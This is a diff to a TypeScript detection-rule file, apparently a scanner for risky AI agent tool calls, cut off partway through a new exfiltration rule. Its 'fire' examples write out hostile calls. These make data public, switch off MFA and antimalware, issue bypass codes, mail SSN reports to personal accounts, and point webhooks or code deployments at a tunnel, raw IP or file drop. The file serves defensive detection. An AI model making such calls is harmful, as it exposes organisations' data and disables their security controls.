@@ -555,16 +555,24 @@ export const RULES: readonly Rule[] = [
       // a shared link made public (`create_shared_link {settings: {requested_visibility: "public"}}`)
       const exposure = nestedValue(i.call.params, ['requested_visibility', 'visibility', 'audience', 'access', 'scope', 'share_recording'], 0)?.toLowerCase();
       // a file that says it is for everyone (`Press_Kit_2024.zip`, `public/logo.svg`) is meant to be shared so
-      const meantPublic = paramList(i.call.params, ['file_name', 'filename', 'name', 'path', 'item_path', 'title']).some((n) => /(?:^|[^a-z])(?:press|public|media[ _-]?kit|brand(?:ing)?|logo|marketing)(?:[^a-z]|$)/i.test(n));
+      const meantPublic = paramList(i.call.params, ['file_name', 'filename', 'name', 'path', 'item_path', 'item_name', 'folder_name', 'display_name', 'title']).some((n) => /(?:^|[^a-z])(?:press|public|media[ _-]?kit|brand(?:ing)?|logo|marketing)(?:[^a-z]|$)/i.test(n));
       if (words.some((w) => w === 'share' || w === 'shared' || w === 'sharing' || w === 'link' || w === 'recording') && exposure !== undefined && PUBLIC_VALUES.has(exposure) && !meantPublic) return `${i.call.toolName}: ${exposure}`;
+      const json = JSON.stringify(i.call.params ?? {}).slice(0, 16384);
       // an access list entry for everyone: a calendar's `scope: {type: "default"}`, a wiki space's anonymous group
-      if (words.some((w) => w === 'acl' || w === 'permission' || w === 'permissions') && PUBLIC_GRANTEE.test(JSON.stringify(i.call.params ?? {}).slice(0, 16384))) return `${i.call.toolName}: everyone`;
+      if (words.some((w) => w === 'acl' || w === 'permission' || w === 'permissions') && PUBLIC_GRANTEE.test(json)) return `${i.call.toolName}: everyone`;
+      // or the thing itself made public: `update_look {public: true}`, `update_repository {is_private: false}`, a board's
+      // `permissionLevel: "public"`, a function URL without auth, a binding for allUsers, a public link made by name
+      // (a repository or gist created public is how open source and shared snippets start: what it holds is for other rules)
+      const p = isJsonObject(i.call.params) ? i.call.params : {};
+      const opened = !words.includes('create') && (p.public === true || p.is_public === true || p.isPublic === true || p.private === false || p.is_private === false || p.isPrivate === false);
+      const madePublic = opened || PUBLIC_SETTING.test(json) || (words.includes('public') && words.includes('link'));
+      if (madePublic && words.some((w) => PUBLISHING_VERBS.has(w)) && !meantPublic) return `${i.call.toolName}: public`;
       const cidrs = paramList(i.call.params, ['cidrblocks', 'cidrblock', 'ipaddress', 'ipaddresses', 'cidr']);
       return words.some((w) => w === 'access' || w === 'allowlist' || w === 'whitelist' || w === 'firewall') && cidrs.some((c) => c === '0.0.0.0/0' || c === '::/0') ? `${i.call.toolName}: 0.0.0.0/0` : undefined;
     },
     examples: {
-      fire: [{ Unknown: { tool_name: 'mcp__google_calendar__insert_acl', params: { calendarId: 'ceo@acme.com', rule: { scope: { type: 'default' }, role: 'reader' } } } }, { Unknown: { tool_name: 'mcp__confluence__add_space_permission', params: { spaceKey: 'SEC', subject: { type: 'group', identifier: 'anonymous' }, operation: { key: 'read', target: 'space' } } } }, { Unknown: { tool_name: 'mcp__onedrive__create_sharing_link', params: { item_path: '/Finance/Board/targets.xlsx', type: 'edit', scope: 'anonymous' } } }, { Unknown: { tool_name: 'mcp__box__create_shared_link', params: { file_id: '1293847561', access: 'open', can_download: true } } }, { Unknown: { tool_name: 'mcp__dropbox__create_shared_link', params: { path: '/Finance/Board/term-sheet.pdf', settings: { requested_visibility: 'public', allow_download: true } } } }, { Unknown: { tool_name: 'mcp__google-drive__create_permission', params: { fileId: '1xQ7', type: 'anyone', role: 'reader' } } }, { Unknown: { tool_name: 'mcp__mongodb__atlas-create-access-list', params: { projectId: '65f1', cidrBlocks: ['0.0.0.0/0'] } } }],
-      quiet: [{ Unknown: { tool_name: 'mcp__google_calendar__insert_acl', params: { calendarId: 'team@acme.com', rule: { scope: { type: 'user', value: 'dana@acme.com' }, role: 'reader' } } } }, { Unknown: { tool_name: 'mcp__box__create_shared_link', params: { file_id: '1299013377', file_name: 'BrightPath_Press_Kit_2024.zip', access: 'open' } } }, { Unknown: { tool_name: 'mcp__onedrive__create_sharing_link', params: { item_path: '/Team/plan.docx', type: 'view', scope: 'organization' } } }, { Unknown: { tool_name: 'mcp__dropbox__create_shared_link', params: { path: '/Team/notes.md', settings: { requested_visibility: 'team_only' } } } }, { Unknown: { tool_name: 'mcp__google-drive__create_permission', params: { fileId: '1xQ7', type: 'user', role: 'reader', emailAddress: 'dana@acme.example' } } }, { Unknown: { tool_name: 'mcp__mongodb__atlas-create-access-list', params: { projectId: '65f1', cidrBlocks: ['203.0.113.7/32'] } } }],
+      fire: [{ Unknown: { tool_name: 'mcp__looker__update_look', params: { look_id: '318', title: 'Customer Contact List (PII)', public: true } } }, { Unknown: { tool_name: 'mcp__bitbucket__update_repository', params: { workspace: 'acme', repo_slug: 'billing-engine', is_private: false } } }, { Unknown: { tool_name: 'mcp__gcp_cloud_run__set_iam_policy', params: { service: 'internal-admin-api', policy: { bindings: [{ role: 'roles/run.invoker', members: ['allUsers'] }] } } } }, { Unknown: { tool_name: 'mcp__aws_lambda__create_function_url_config', params: { function_name: 'export-customers', auth_type: 'NONE' } } }, { Unknown: { tool_name: 'mcp__google_calendar__insert_acl', params: { calendarId: 'ceo@acme.com', rule: { scope: { type: 'default' }, role: 'reader' } } } }, { Unknown: { tool_name: 'mcp__confluence__add_space_permission', params: { spaceKey: 'SEC', subject: { type: 'group', identifier: 'anonymous' }, operation: { key: 'read', target: 'space' } } } }, { Unknown: { tool_name: 'mcp__onedrive__create_sharing_link', params: { item_path: '/Finance/Board/targets.xlsx', type: 'edit', scope: 'anonymous' } } }, { Unknown: { tool_name: 'mcp__box__create_shared_link', params: { file_id: '1293847561', access: 'open', can_download: true } } }, { Unknown: { tool_name: 'mcp__dropbox__create_shared_link', params: { path: '/Finance/Board/term-sheet.pdf', settings: { requested_visibility: 'public', allow_download: true } } } }, { Unknown: { tool_name: 'mcp__google-drive__create_permission', params: { fileId: '1xQ7', type: 'anyone', role: 'reader' } } }, { Unknown: { tool_name: 'mcp__mongodb__atlas-create-access-list', params: { projectId: '65f1', cidrBlocks: ['0.0.0.0/0'] } } }],
+      quiet: [{ Unknown: { tool_name: 'mcp__github__create_gist', params: { public: true, description: 'wait for a TCP port', files: { 'wait-for-port.sh': { content: 'until nc -z $1 $2; do sleep 1; done' } } } } }, { Unknown: { tool_name: 'mcp__zendesk__update_ticket', params: { ticket_id: 48213, comment: { public: true, body: 'Fixed in 2.3.1, thanks for the report.' } } } }, { Unknown: { tool_name: 'mcp__box__create_shared_link', params: { item_type: 'folder', item_name: 'Press Kit 2025 (logos, screenshots)', shared_link: { access: 'open' } } } }, { Unknown: { tool_name: 'mcp__google_calendar__insert_acl', params: { calendarId: 'team@acme.com', rule: { scope: { type: 'user', value: 'dana@acme.com' }, role: 'reader' } } } }, { Unknown: { tool_name: 'mcp__box__create_shared_link', params: { file_id: '1299013377', file_name: 'BrightPath_Press_Kit_2024.zip', access: 'open' } } }, { Unknown: { tool_name: 'mcp__onedrive__create_sharing_link', params: { item_path: '/Team/plan.docx', type: 'view', scope: 'organization' } } }, { Unknown: { tool_name: 'mcp__dropbox__create_shared_link', params: { path: '/Team/notes.md', settings: { requested_visibility: 'team_only' } } } }, { Unknown: { tool_name: 'mcp__google-drive__create_permission', params: { fileId: '1xQ7', type: 'user', role: 'reader', emailAddress: 'dana@acme.example' } } }, { Unknown: { tool_name: 'mcp__mongodb__atlas-create-access-list', params: { projectId: '65f1', cidrBlocks: ['203.0.113.7/32'] } } }],
     },
   },
   {
@@ -687,12 +695,12 @@ export const RULES: readonly Rule[] = [
     check: (i) => {
       // removing members from a group or labels from issues (`remove_users_from_team`) deletes nothing
       // the records may be named by an argument instead (`batch_archive {object_type: "contacts"}`)
-      const t = toolNamed(i, (words) => words.some((w) => BULK_REMOVERS.has(w)) && (words.some((w) => RECORDS.has(w)) || paramList(i.call.kind === 'unknown' ? i.call.params : undefined, ['object_type', 'objecttype', 'table', 'object']).length > 0) && !words.includes('from'));
+      const t = toolNamed(i, (words) => words.some((w) => BULK_REMOVERS.has(w)) && (words.some((w) => RECORDS.has(w)) || paramList(i.call.kind === 'unknown' ? i.call.params : undefined, ['object_type', 'objecttype', 'table', 'object', 'entity']).length > 0) && !words.includes('from'));
       if (!t || readByShape(t.call)) return undefined;
       const { words } = t;
       const ids = isJsonObject(t.call.params) ? Object.values(t.call.params).filter(Array.isArray).reduce((n, v) => Math.max(n, v.length), 0) : 0;
       // chosen by a query rather than by id (`jql: project = CORE`, `'me' in owners`), or by a long list
-      const byQuery = paramValue(t.call.params, ['jql', 'query', 'q', 'filter', 'search', 'where', 'filterbyformula', 'filter_by_formula']) !== undefined || (isJsonObject(t.call.params) && isJsonObject(t.call.params.filter));
+      const byQuery = paramValue(t.call.params, ['jql', 'query', 'q', 'filter', 'search', 'where', 'filterbyformula', 'filter_by_formula', 'segment', 'segment_id', 'segmentid']) !== undefined || (isJsonObject(t.call.params) && isJsonObject(t.call.params.filter));
       // or everything by an argument that says so (`records: "ALL"`, `archive_all: true`)
       const all = isJsonObject(t.call.params) && Object.entries(t.call.params).some(([k, v]) => (typeof v === 'string' && (v === '*' || v.toLowerCase() === 'all')) || (v === true && /^(?:delete|archive|remove)_?all$/i.test(k)));
       const bulk = words.some((w) => w === 'bulk' || w === 'batch' || w === 'all' || w === 'many' || w === 'multiple') || ids >= 3 || byQuery || all;
@@ -700,7 +708,7 @@ export const RULES: readonly Rule[] = [
       return bulk && !target.some((x) => DISPOSABLE.test(x)) ? t.call.toolName : undefined;
     },
     examples: {
-      fire: [{ Unknown: { tool_name: 'mcp__airtable__delete_records', params: { base_id: 'appQ7x', table: 'Customers', records: 'ALL' } } }, { Unknown: { tool_name: 'mcp__hubspot__batch_archive', params: { object_type: 'contacts', archive_all: true } } }, { Unknown: { tool_name: 'mcp__jira__bulk_delete_issues', params: { jql: 'project = CORE', delete_subtasks: true } } }, { Unknown: { tool_name: 'mcp__slack__archive_channel', params: { channel_ids: ['C01GENERAL', 'C02ENG', 'C03INCIDENTS', 'C04DEPLOY'] } } }, { Unknown: { tool_name: 'mcp__google_drive__delete_files', params: { query: "'me' in owners", permanent: true, pageSize: 1000 } } }],
+      fire: [{ Unknown: { tool_name: 'mcp__quickbooks__batch_delete', params: { entity: 'JournalEntry', query: "SELECT Id FROM JournalEntry WHERE TxnDate >= '2024-01-01'" } } }, { Unknown: { tool_name: 'mcp__monday__delete_boards', params: { board_ids: [3344556677, 3344556678, 3344556679, 3344556680] } } }, { Unknown: { tool_name: 'mcp__airtable__delete_records', params: { base_id: 'appQ7x', table: 'Customers', records: 'ALL' } } }, { Unknown: { tool_name: 'mcp__hubspot__batch_archive', params: { object_type: 'contacts', archive_all: true } } }, { Unknown: { tool_name: 'mcp__jira__bulk_delete_issues', params: { jql: 'project = CORE', delete_subtasks: true } } }, { Unknown: { tool_name: 'mcp__slack__archive_channel', params: { channel_ids: ['C01GENERAL', 'C02ENG', 'C03INCIDENTS', 'C04DEPLOY'] } } }, { Unknown: { tool_name: 'mcp__google_drive__delete_files', params: { query: "'me' in owners", permanent: true, pageSize: 1000 } } }],
       quiet: [{ Unknown: { tool_name: 'mcp__okta__remove_users_from_group', params: { groupId: 'g1', userIds: ['u1', 'u2', 'u3'] } } }, { Unknown: { tool_name: 'mcp__jira__delete_issue', params: { issueKey: 'CORE-12' } } }, { Unknown: { tool_name: 'mcp__slack__archive_channel', params: { channel_id: 'C09OLDPROJECT' } } }, { Unknown: { tool_name: 'mcp__github__delete_branches', params: { branches: ['feature/a', 'feature/b', 'feature/c'] } } }, { Unknown: { tool_name: 'mcp__google_drive__delete_files', params: { fileIds: ['1a', '1b', '1c'], folder: 'tmp-exports' } } }, { Unknown: { tool_name: 'mcp__jira__search_issues', params: { jql: 'project = CORE' } } }],
     },
   },
@@ -710,7 +718,7 @@ export const RULES: readonly Rule[] = [
     why: 'These are what would notice the next step. Switched off through an admin tool, the change sits in a console nobody is watching, and the alerts it would have raised never come.',
     alternative: 'Change security controls through their owners\' reviewed process; mute one monitor, for a set time, by its scope.',
     check: (i) => {
-      const t = toolNamed(i, (words) => words.some((w) => SECURITY_OFF_VERBS.has(w) || w === 'mute' || w === 'silence' || w === 'delete' || w === 'remove' || w === 'update' || w === 'set' || w === 'put'));
+      const t = toolNamed(i, (words) => words.some((w) => SECURITY_OFF_VERBS.has(w) || w === 'mute' || w === 'silence' || w === 'delete' || w === 'remove' || w === 'update' || w === 'set' || w === 'put' || w === 'create' || w === 'add'));
       // a shell, SQL or HTTP reading of the call is judged as such; a vault path read as a file (`sys/audit/file`) is not one
       if (!t || ['bash', 'database', 'network'].includes(readAs(t.call).kind)) return undefined;
       const { words } = t;
@@ -726,12 +734,18 @@ export const RULES: readonly Rule[] = [
       // every monitor, or one without an end: `mute_all_monitors {scope: "*"}`, a silence whose matcher is any alert name
       const matchesAny = Array.isArray(p.matchers) && p.matchers.slice(0, 16).some((m) => isJsonObject(m) && (m.value === '.+' || m.value === '.*') && m.isRegex === true);
       const muteAll = (words.includes('mute') && (words.includes('all') || p.scope === '*' || p.end === null)) || (words.includes('silence') && matchesAny);
-      const off = muteAll || flagOff || (subject && (words.some((w) => SECURITY_OFF_VERBS.has(w)) || ((words.includes('delete') || words.includes('remove')) && !words.includes('user')) || offValue));
+      // deeper in the arguments: a sign-on rule's `requireFactor: false`, a workspace's `enableVerboseAuditLogs: "false"`,
+      // and on a security product, a policy's `detection: "DISABLED"`
+      const json = JSON.stringify(p).slice(0, 16384);
+      const nestedOff = NESTED_FLAG_OFF.test(json) || (subject && NESTED_STATE_OFF.test(json));
+      // an endpoint agent told to look away (`create_sensor_visibility_exclusion`), or second factors handed out (`create_bypass_codes`)
+      const lookAway = (subject && words.some((w) => w === 'exclusion' || w === 'exclusions') && words.some((w) => w === 'create' || w === 'add')) || (words.includes('bypass') && words.some((w) => w === 'code' || w === 'codes'));
+      const off = muteAll || flagOff || nestedOff || lookAway || (subject && (words.some((w) => SECURITY_OFF_VERBS.has(w)) || ((words.includes('delete') || words.includes('remove')) && !words.includes('user')) || offValue));
       return off ? `${t.call.toolName}${values.length ? `: ${values.join(', ').slice(0, 120)}` : ''}` : undefined;
     },
     examples: {
-      fire: [{ Unknown: { tool_name: 'mcp__entra__update_conditional_access_policy', params: { policyId: '3c1f2e4d-require-mfa-all-users', state: 'disabled' } } }, { Unknown: { tool_name: 'mcp__datadog__delete_monitor', params: { monitor_ids: [81234501, 81234502], names: ['CloudTrail - root account login', 'GuardDuty high severity finding'] } } }, { Unknown: { tool_name: 'mcp__grafana__create_silence', params: { matchers: [{ name: 'alertname', value: '.+', isRegex: true, isEqual: true }], endsAt: '2099-01-01T00:00:00Z', comment: 'temp' } } }, { Unknown: { tool_name: 'mcp__sentry__update_project', params: { projectSlug: 'payments-api', dataScrubber: false, scrubIPAddresses: false } } }, { Unknown: { tool_name: 'mcp__keycloak__update_realm', params: { realm: 'corp', eventsEnabled: false, adminEventsEnabled: false, bruteForceProtected: false } } }, { Unknown: { tool_name: 'mcp__opsgenie__delete_integration', params: { integration_id: 'd21b', integration_name: 'GuardDuty Security Alerts' } } }, { Unknown: { tool_name: 'mcp__cloudflare__update_zone_setting', params: { zone: 'acmecorp.io', setting: 'waf', value: 'off' } } }, { Unknown: { tool_name: 'mcp__okta__update_policy', params: { policy_id: '00p1ab2', name: 'Require MFA for Admin Console', status: 'INACTIVE' } } }, { Unknown: { tool_name: 'mcp__datadog__mute_all_monitors', params: { scope: '*', end: null } } }, { Unknown: { tool_name: 'mcp__vault__delete', params: { path: 'sys/audit/file' } } }, { Unknown: { tool_name: 'mcp__pagerduty__update_service', params: { id: 'P8X2K1Q', name: 'Security - SIEM alerts', status: 'disabled' } } }],
-      quiet: [{ Unknown: { tool_name: 'mcp__grafana__create_silence', params: { matchers: [{ name: 'alertname', value: 'DiskFillingUp', isRegex: false, isEqual: true }], endsAt: '2024-06-11T04:00:00Z', comment: 'maintenance' } } }, { Unknown: { tool_name: 'mcp__datadog__delete_monitor', params: { monitor_ids: [812], names: ['staging canary latency'] } } }, { Unknown: { tool_name: 'mcp__app__update_config', params: { verbose_logging: false, cache: false } } }, { Unknown: { tool_name: 'mcp__linear__update_issue', params: { id: 'ENG-12', title: 'Security review of the export job', state: 'paused' } } }, { Unknown: { tool_name: 'mcp__datadog__mute_monitor', params: { monitor_id: 48213377, scope: 'env:staging', end: '2024-10-03T23:00:00Z' } } }, { Unknown: { tool_name: 'mcp__pagerduty__update_service', params: { id: 'P1', name: 'Staging batch jobs', status: 'disabled' } } }, { Unknown: { tool_name: 'mcp__okta__update_policy', params: { policy_id: '00p1', name: 'Require MFA for Admin Console', status: 'ACTIVE' } } }, { Unknown: { tool_name: 'mcp__cloudflare__update_zone_setting', params: { zone: 'acmecorp.io', setting: 'waf', value: 'on' } } }, { Unknown: { tool_name: 'mcp__okta__delete_user', params: { user: 'mfa-test@acme.example' } } }],
+      fire: [{ Unknown: { tool_name: 'mcp__crowdstrike__create_sensor_visibility_exclusion', params: { value: 'C:\\\\Users\\\\*\\\\AppData\\\\Roaming\\\\**', groups: ['all'] } } }, { Unknown: { tool_name: 'mcp__crowdstrike__update_prevention_policy', params: { id: '0b3c9f2e', settings: [{ id: 'CloudAntiMalware', value: { detection: 'DISABLED', prevention: 'DISABLED' } }] } } }, { Unknown: { tool_name: 'mcp__duo__create_bypass_codes', params: { username: 'cfo.martinez', count: 10, valid_secs: 0 } } }, { Unknown: { tool_name: 'mcp__okta__update_policy_rule', params: { policy_id: '00p1', rule_id: '0pr5', actions: { signon: { access: 'ALLOW', requireFactor: false } } } } }, { Unknown: { tool_name: 'mcp__entra__update_conditional_access_policy', params: { policyId: '3c1f2e4d-require-mfa-all-users', state: 'disabled' } } }, { Unknown: { tool_name: 'mcp__datadog__delete_monitor', params: { monitor_ids: [81234501, 81234502], names: ['CloudTrail - root account login', 'GuardDuty high severity finding'] } } }, { Unknown: { tool_name: 'mcp__grafana__create_silence', params: { matchers: [{ name: 'alertname', value: '.+', isRegex: true, isEqual: true }], endsAt: '2099-01-01T00:00:00Z', comment: 'temp' } } }, { Unknown: { tool_name: 'mcp__sentry__update_project', params: { projectSlug: 'payments-api', dataScrubber: false, scrubIPAddresses: false } } }, { Unknown: { tool_name: 'mcp__keycloak__update_realm', params: { realm: 'corp', eventsEnabled: false, adminEventsEnabled: false, bruteForceProtected: false } } }, { Unknown: { tool_name: 'mcp__opsgenie__delete_integration', params: { integration_id: 'd21b', integration_name: 'GuardDuty Security Alerts' } } }, { Unknown: { tool_name: 'mcp__cloudflare__update_zone_setting', params: { zone: 'acmecorp.io', setting: 'waf', value: 'off' } } }, { Unknown: { tool_name: 'mcp__okta__update_policy', params: { policy_id: '00p1ab2', name: 'Require MFA for Admin Console', status: 'INACTIVE' } } }, { Unknown: { tool_name: 'mcp__datadog__mute_all_monitors', params: { scope: '*', end: null } } }, { Unknown: { tool_name: 'mcp__vault__delete', params: { path: 'sys/audit/file' } } }, { Unknown: { tool_name: 'mcp__pagerduty__update_service', params: { id: 'P8X2K1Q', name: 'Security - SIEM alerts', status: 'disabled' } } }],
+      quiet: [{ Unknown: { tool_name: 'mcp__crowdstrike__update_prevention_policy', params: { id: '0b3c9f2e', settings: [{ id: 'CloudAntiMalware', value: { detection: 'AGGRESSIVE', prevention: 'MODERATE' } }] } } }, { Unknown: { tool_name: 'mcp__homeassistant__update_entity', params: { entity_id: 'switch.porch', state: 'off' } } }, { Unknown: { tool_name: 'mcp__grafana__create_silence', params: { matchers: [{ name: 'alertname', value: 'DiskFillingUp', isRegex: false, isEqual: true }], endsAt: '2024-06-11T04:00:00Z', comment: 'maintenance' } } }, { Unknown: { tool_name: 'mcp__datadog__delete_monitor', params: { monitor_ids: [812], names: ['staging canary latency'] } } }, { Unknown: { tool_name: 'mcp__app__update_config', params: { verbose_logging: false, cache: false } } }, { Unknown: { tool_name: 'mcp__linear__update_issue', params: { id: 'ENG-12', title: 'Security review of the export job', state: 'paused' } } }, { Unknown: { tool_name: 'mcp__datadog__mute_monitor', params: { monitor_id: 48213377, scope: 'env:staging', end: '2024-10-03T23:00:00Z' } } }, { Unknown: { tool_name: 'mcp__pagerduty__update_service', params: { id: 'P1', name: 'Staging batch jobs', status: 'disabled' } } }, { Unknown: { tool_name: 'mcp__okta__update_policy', params: { policy_id: '00p1', name: 'Require MFA for Admin Console', status: 'ACTIVE' } } }, { Unknown: { tool_name: 'mcp__cloudflare__update_zone_setting', params: { zone: 'acmecorp.io', setting: 'waf', value: 'on' } } }, { Unknown: { tool_name: 'mcp__okta__delete_user', params: { user: 'mfa-test@acme.example' } } }],
     },
   },
   {
@@ -766,11 +780,11 @@ export const RULES: readonly Rule[] = [
       // a staging tenant's or a test account's (`realm: "staging"`, `qa-tester-03`) is how a login flow gets tested
       if (paramList(p, ['realm', 'tenant', 'environment', 'env', 'username', 'user', 'email']).some((v) => TEST_ACCOUNT.test(v))) return undefined;
       const factors = words.some((w) => w === 'reset' || w === 'delete' || w === 'remove') && words.some((w) => SECOND_FACTOR_WORDS.has(w));
-      const emailSwap = words.some((w) => w === 'update' || w === 'set') && words.includes('user') && typeof p.email === 'string' && (p.email_verified === true || p.verify_email === false);
+      const emailSwap = words.some((w) => w === 'update' || w === 'set') && words.includes('user') && typeof p.email === 'string' && (p.email_verified === true || p.verified === true || p.verify_email === false || p.skip_verify_email === true);
       return factors || emailSwap ? `${t.call.toolName}${typeof p.email === 'string' ? `: ${p.email}` : ''}` : undefined;
     },
     examples: {
-      fire: [{ Unknown: { tool_name: 'mcp__okta__reset_factors', params: { user: 'ceo@acmecorp.io', factors: 'all', send_email: false } } }, { Unknown: { tool_name: 'mcp__auth0__update_user', params: { user_id: 'auth0|64f1', email: 'j.miller.audit@protonmail.com', email_verified: true, verify_email: false } } }],
+      fire: [{ Unknown: { tool_name: 'mcp__zendesk__update_user', params: { user_id: 90311455, email: 'k.oconnor.acct@gmail.com', verified: true, skip_verify_email: true } } }, { Unknown: { tool_name: 'mcp__okta__reset_factors', params: { user: 'ceo@acmecorp.io', factors: 'all', send_email: false } } }, { Unknown: { tool_name: 'mcp__auth0__update_user', params: { user_id: 'auth0|64f1', email: 'j.miller.audit@protonmail.com', email_verified: true, verify_email: false } } }],
       quiet: [{ Unknown: { tool_name: 'mcp__keycloak__reset_user_mfa', params: { realm: 'staging', username: 'qa-tester-03', remove_credentials: ['otp'] } } }, { Unknown: { tool_name: 'mcp__auth0__update_user', params: { user_id: 'auth0|64f1', name: 'Jo Miller' } } }, { Unknown: { tool_name: 'mcp__okta__list_factors', params: { user: 'dev@acmecorp.io' } } }, { Unknown: { tool_name: 'mcp__auth0__update_user', params: { user_id: 'auth0|64f1', email: 'jo@acmecorp.io' } } }],
     },
   },
@@ -780,14 +794,16 @@ export const RULES: readonly Rule[] = [
     why: 'Documents, boards, repositories, network access and exports given to a private mailbox leave the organization\'s control: nobody revokes them when the person leaves, and a planted address reads like a colleague\'s at a glance.',
     alternative: 'Share with the person\'s work account, or have an administrator invite a guest through the organization\'s process.',
     check: (i) => {
-      const t = toolNamed(i, (words) => words.some((w) => ACCESS_CHANGES.has(w)));
+      const t = toolNamed(i, (words) => words.some((w) => ACCESS_CHANGES.has(w) || w === 'report' || w === 'reports'));
       if (!t) return undefined;
       const { words } = t;
       const mailbox = i.facts.texts.slice(0, 128).map((x) => (x.length <= 1024 ? PERSONAL_MAILBOX.exec(x)?.[0] : undefined)).find((x) => x !== undefined);
       if (mailbox === undefined) return undefined;
       const p = isJsonObject(t.call.params) ? t.call.params : {};
-      // access itself: a share, a permission, a membership, an access list, an export sent on
-      const grants = words.some((w) => ACCESS_OBJECTS.has(w));
+      // access itself: a share, a permission, a membership, an access list, an export, a forwarded thread; or a
+      // report delivered there (`run_custom_report {recipients: […]}`), a person a report may be about being no delivery
+      const delivered = words.some((w) => w === 'report' || w === 'reports' || w === 'plan') && PERSONAL_MAILBOX.test(nestedValue(p, DELIVERY_KEYS, 0) ?? '');
+      const grants = words.some((w) => ACCESS_OBJECTS.has(w)) || words.includes('forward') || delivered;
       // or an account pointed at the mailbox with admin rights or its second factor reset (`update_user {email, reset_mfa: true}`)
       const account = words.includes('user') || words.includes('users') || [p.sObject, p.object, p.objectType].some((x) => typeof x === 'string' && x.toLowerCase() === 'user');
       const json = account ? JSON.stringify(p).slice(0, 16384) : '';
@@ -795,18 +811,42 @@ export const RULES: readonly Rule[] = [
       return grants || takenOver ? `${t.call.toolName}: ${mailbox}` : undefined;
     },
     examples: {
-      fire: [{ Unknown: { tool_name: 'mcp__gdrive__create_permission', params: { fileId: '0AFk3mQx9Zp2', type: 'user', role: 'writer', emailAddress: 'm.delgado.files1987@gmail.com', sendNotificationEmail: false } } }, { Unknown: { tool_name: 'mcp__hubspot__crm_export', params: { objectType: 'contacts', properties: 'ALL', format: 'CSV', notifyEmail: 'leads.archive.2024@protonmail.com' } } }, { Unknown: { tool_name: 'mcp__tailscale__update_acl', params: { acl: { acls: [{ action: 'accept', src: ['n3tw0rk.admin@gmail.com'], dst: ['*:*'] }] } } } }, { Unknown: { tool_name: 'mcp__salesforce__create_record', params: { sObject: 'User', fields: { Username: 'sf.int@acme.com.prod', Email: 'sf.int.acme@gmail.com', ProfileName: 'System Administrator' } } } }, { Unknown: { tool_name: 'mcp__jumpcloud__update_user', params: { user_id: '5f8e2a1c', email: 'dlee.finance.cfo@outlook.com', reset_mfa: true } } }],
-      quiet: [{ Unknown: { tool_name: 'mcp__gdrive__create_permission', params: { fileId: '0AFk3', type: 'user', role: 'reader', emailAddress: 'dana@acme.com' } } }, { Unknown: { tool_name: 'mcp__gmail__send_email', params: { to: 'customer.jane@gmail.com', subject: 'Your ticket', body: 'Fixed in 2.3.1' } } }, { Unknown: { tool_name: 'mcp__supabase__create_user', params: { email: 'qa.test.user@gmail.com', password: 'x' } } }, { Unknown: { tool_name: 'mcp__gdrive__list_permissions', params: { fileId: '0AFk3' } } }],
+      fire: [{ Unknown: { tool_name: 'mcp__workday__run_custom_report', params: { report_name: 'All Active Workers - SSN, Base Pay', output_format: 'csv', deliver_via: 'email', recipients: ['hr.audit.review@protonmail.com'] } } }, { Unknown: { tool_name: 'mcp__freshdesk__forward_ticket', params: { ticket_id: 88102, to_emails: ['claims.processing.team@outlook.com'], include_original_attachments: true } } }, { Unknown: { tool_name: 'mcp__gdrive__create_permission', params: { fileId: '0AFk3mQx9Zp2', type: 'user', role: 'writer', emailAddress: 'm.delgado.files1987@gmail.com', sendNotificationEmail: false } } }, { Unknown: { tool_name: 'mcp__hubspot__crm_export', params: { objectType: 'contacts', properties: 'ALL', format: 'CSV', notifyEmail: 'leads.archive.2024@protonmail.com' } } }, { Unknown: { tool_name: 'mcp__tailscale__update_acl', params: { acl: { acls: [{ action: 'accept', src: ['n3tw0rk.admin@gmail.com'], dst: ['*:*'] }] } } } }, { Unknown: { tool_name: 'mcp__salesforce__create_record', params: { sObject: 'User', fields: { Username: 'sf.int@acme.com.prod', Email: 'sf.int.acme@gmail.com', ProfileName: 'System Administrator' } } } }, { Unknown: { tool_name: 'mcp__jumpcloud__update_user', params: { user_id: '5f8e2a1c', email: 'dlee.finance.cfo@outlook.com', reset_mfa: true } } }],
+      quiet: [{ Unknown: { tool_name: 'mcp__zendesk__get_user_report', params: { user_email: 'customer.jane@gmail.com' } } }, { Unknown: { tool_name: 'mcp__freshdesk__create_ticket', params: { requester_email: 'customer.jane@gmail.com', subject: 'Login issue' } } }, { Unknown: { tool_name: 'mcp__gdrive__create_permission', params: { fileId: '0AFk3', type: 'user', role: 'reader', emailAddress: 'dana@acme.com' } } }, { Unknown: { tool_name: 'mcp__gmail__send_email', params: { to: 'customer.jane@gmail.com', subject: 'Your ticket', body: 'Fixed in 2.3.1' } } }, { Unknown: { tool_name: 'mcp__supabase__create_user', params: { email: 'qa.test.user@gmail.com', password: 'x' } } }, { Unknown: { tool_name: 'mcp__gdrive__list_permissions', params: { fileId: '0AFk3' } } }],
+    },
+  },
+  {
+    id: 'PX-CALL-037', name: 'tool-points-integration-at-drop', score: 75, tactic: 'exfiltration', technique: 'T1567',
+    message: 'A tool call points a webhook, log drain, integration or deployment at a paste site, webhook catcher, tunnel or raw IP',
+    why: 'A webhook or log drain sends every later event, payment, message or log line to its address for as long as it exists; code deployed from a file drop is whatever its uploader put there.',
+    alternative: 'Point integrations at services the team runs or contracts, and deploy code from its own build.',
+    check: (i) => {
+      const t = toolNamed(i, (words) => words.some((w) => INTEGRATION_WORDS.has(w)) && words.some((w) => PUBLISHING_VERBS.has(w) || w === 'register' || w === 'deploy'));
+      if (!t) return undefined;
+      for (const v of i.facts.texts.slice(0, 128)) {
+        const d = v.length < 2048 && v.includes('://') ? destinationOf(v) : undefined;
+        if (d && EXFIL_KINDS.has(d.kind)) return `${t.call.toolName}: ${v.slice(0, 160)} (${d.kind})`;
+      }
+      return undefined;
+    },
+    examples: {
+      fire: [{ Unknown: { tool_name: 'mcp__stripe__create_webhook_endpoint', params: { url: 'https://stripe-events-relay.ngrok-free.app/hook', enabled_events: ['*'] } } }, { Unknown: { tool_name: 'mcp__gitlab__create_project_hook', params: { id: 'acme/platform', url: 'http://198.51.100.23:8000/gl', push_events: true } } }, { Unknown: { tool_name: 'mcp__aws_lambda__update_function_code', params: { function_name: 'auth-authorizer-prod', zip_file_url: 'https://transfer.sh/get/8xQz/authorizer.zip', publish: true } } }],
